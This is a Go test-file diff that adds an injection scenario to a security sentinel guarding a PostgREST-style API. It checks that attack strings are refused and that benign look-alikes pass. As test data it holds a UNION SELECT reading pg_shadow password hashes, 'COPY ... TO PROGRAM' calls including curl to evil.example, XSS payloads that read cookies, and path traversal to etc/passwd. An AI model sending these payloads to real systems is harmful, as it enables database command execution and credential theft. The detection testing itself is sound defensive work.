@@ -4,6 +4,7 @@ import (
 	"encoding/json"
 	"fmt"
 	"net/http"
+	"net/url"
 	"os"
 	"path/filepath"
 	"strings"
@@ -105,6 +106,7 @@ func TestSentinelScenarios(t *testing.T) {
 		insert into public.items (name) select 'item ' || g from generate_series(1, 1000) g;
 		alter table public.items enable row level security;
 		create policy items_read on public.items for select to anon, authenticated using (true);
+		create function public.echo_name(name text) returns text language sql immutable as 'select name';
 		notify pgrst, 'reload schema';`)
 	for _, u := range []string{"alice", "bob", "carol", "dave"} {
 		st, out, _ := s.from(t, "10.9.9.9", "POST", "/auth/v1/signup", anon, "", fmt.Sprintf(`{"email":"%s@example.com","password":"correct horse %s"}`, u, u))
@@ -150,6 +152,35 @@ func TestSentinelScenarios(t *testing.T) {
 		benign("198.51.100.21")
 		if st, _, _ := s.from(t, "198.51.100.20", "GET", "/rest/v1/items?id=eq.1", anon, "", ""); st != http.StatusForbidden {
 			t.Errorf("the stuffing address can still read: %d", st)
+		}
+	})
+	t.Run("injection", func(t *testing.T) {
+		// Each attack value is refused before its statement runs, in
+		// PostgREST's shape; the third blocks the address.
+		for i, q := range []string{
+			"/rest/v1/items?name=eq." + url.QueryEscape("x' UNION SELECT usename, passwd FROM pg_shadow--"),
+			"/rest/v1/items?name=eq." + url.QueryEscape("1; COPY items TO PROGRAM 'curl evil.example'"),
+			"/rest/v1/items?name=eq." + url.QueryEscape("<svg/onload=alert(document.cookie)>"),
+		} {
+			st, out, _ := s.from(t, "100.66.0.10", "GET", q, anon, "", "")
+			if !sentinelRefused(st, out) || !strings.Contains(fmt.Sprint(out["message"]), "looks like an attack") {
+				t.Fatalf("attack %d: %d %v", i+1, st, out)
+			}
+		}
+		st, out, _ := s.from(t, "100.66.0.10", "GET", "/rest/v1/items?id=eq.1", anon, "", "")
+		if !sentinelRefused(st, out) || !strings.Contains(fmt.Sprint(out["message"]), "blocked") {
+			t.Errorf("after three attacks the address still reads: %d %v", st, out)
+		}
+		benign("100.66.0.11")
+		// Values that look like SQL or markup but are not attacks pass.
+		for _, v := range []string{"O'Brien", "select the best option; drop me a line", "x < y and y > z", "eq.5"} {
+			if st, out, _ := s.from(t, "100.66.0.12", "GET", "/rest/v1/items?name=eq."+url.QueryEscape(v), anon, "", ""); st != http.StatusOK {
+				t.Errorf("benign value %q: %d %v", v, st, out)
+			}
+		}
+		body := `{"name":"Mary O'Connor <mary@example.com> wrote: 5 > 3, so update the list and select a winner"}`
+		if st, out, _ := s.from(t, "100.66.0.12", "POST", "/rest/v1/rpc/echo_name", anon, "", body); st == http.StatusForbidden {
+			t.Errorf("a benign body was refused: %v", out)
 		}
 	})
 	t.Run("password spraying", func(t *testing.T) {
@@ -258,7 +289,7 @@ func TestSentinelScenarios(t *testing.T) {
 				}
 			}
 		}
-		want := []string{"brute_force false", "credential_stuffing false", "password_spraying false", "scanning false", "exfiltration false", "token_replay false", "brute_force true"}
+		want := []string{"injection false", "brute_force false", "credential_stuffing false", "password_spraying false", "scanning false", "exfiltration false", "token_replay false", "brute_force true"}
 		missing := []string{}
 		for _, w := range want {
 			if !got[w] {
@@ -281,9 +312,12 @@ func TestSentinelScenarios(t *testing.T) {
 
 func TestSentinelClassify(t *testing.T) {
 	t.Parallel()
-	c := sentinel.NewClassifier(sentinel.Config{})
+	c, err := sentinel.NewClassifier(sentinel.Config{})
+	if err != nil {
+		t.Fatal(err)
+	}
 	var out strings.Builder
-	in := "hello world\n<img src=x onerror=alert(1)>\n..%2f..%2fetc%2fpasswd\nO'Brien\n"
+	in := "hello world\n<img src=x onerror=alert(1)>\n..%2f..%2fetc%2fpasswd\nO'Brien\n1; COPY t TO PROGRAM 'id'\n"
 	if err := classifyLines(strings.NewReader(in), &out, c, false, false); err != nil {
 		t.Fatal(err)
 	}
@@ -291,7 +325,7 @@ func TestSentinelClassify(t *testing.T) {
 	for line := range strings.SplitSeq(strings.TrimSpace(out.String()), "\n") {
 		labels = append(labels, strings.Split(line, "\t")[0])
 	}
-	if got := strings.Join(labels, " "); got != "benign xss traversal benign" {
+	if got := strings.Join(labels, " "); got != "benign xss traversal benign sqli" {
 		t.Errorf("labels %q", got)
 	}
 	out.Reset()
